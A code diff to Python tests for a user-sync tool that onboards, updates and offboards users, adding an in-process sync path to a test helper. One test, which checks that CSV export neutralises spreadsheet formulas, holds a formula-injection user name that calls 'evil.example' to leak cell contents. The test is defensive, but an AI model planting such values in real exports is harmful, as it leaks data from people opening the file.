@@ -33,21 +33,30 @@ class People:
     dave: str
 
 
-def two_syncs(world: World) -> People:
+def two_syncs(world: World, *, through_the_command: bool = False) -> People:
     """Run 1 onboards alice, bob and carol; run 2 renames alice, gives bob a new number, offboards carol and
-    fails to onboard dave (his number is held by another agent)."""
+    fails to onboard dave (his number is held by another agent). In this process unless the test is about
+    what `syncd sync` itself does (`through_the_command`)."""
+
+    def sync() -> tuple[int, dict[str, object]]:
+        if not through_the_command:
+            result = world.sync_in_process()
+            return result.exit_code, result.to_json()
+        finished = world.run("sync", "--json")
+        return finished.code, finished.json()
+
     alice = world.add_user("alice", "+1 415 555 0101")
     bob = world.add_user("bob", "+1 415 555 0102")
     carol = world.add_user("carol", "+1 415 555 0103")
-    assert world.run("sync").code == 0
+    assert sync()[0] == 0
     world.graph.update_user(alice, upn="alice.smith@contoso.com")
     world.graph.update_user(bob, business_phones=["+1 415 555 0199"])
     world.graph.remove_member(world.group, carol)
     world.smartcomm.add_agent(user_object_id=STRANGER, tenant_id=TENANT, phone_number="+14155550104")
     dave = world.add_user("dave", "+1 415 555 0104")
-    second = world.run("sync", "--json")
-    assert second.code == 1, second.stderr
-    assert second.json()["outcomes"] == {
+    code, second = sync()
+    assert code == 1
+    assert second["outcomes"] == {
         "offboard": {"ok": 1},
         "onboard": {"failed": 1},
         "update": {"ok": 2},
@@ -217,7 +226,7 @@ def test_history_filters(world: World) -> None:
 
 
 def test_sync_prunes_the_history_older_than_history_days_once_a_day(world: World) -> None:
-    two_syncs(world)
+    two_syncs(world, through_the_command=True)
     first_run, second_run = run_ids(world)
     with Store(f"sqlite:///{database(world)}") as store:
         pruned_at = store.get_value("history_pruned_at")  # the very first sync pruned (nothing) at its end
@@ -300,7 +309,7 @@ def test_csv_neutralises_a_upn_a_spreadsheet_would_run(world: World) -> None:
     upn = '=HYPERLINK("https://evil.example/?"&A1,"Click")@contoso.com'
     mallory = world.graph.add_user(upn=upn, business_phones=["+1 415 555 0107"])
     world.graph.add_member(world.group, mallory)
-    assert world.run("sync").code == 0
+    assert world.sync_in_process().exit_code == 0
     result = world.run("history", "--format", "csv")
     assert result.code == 0, result.stderr
     [record] = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
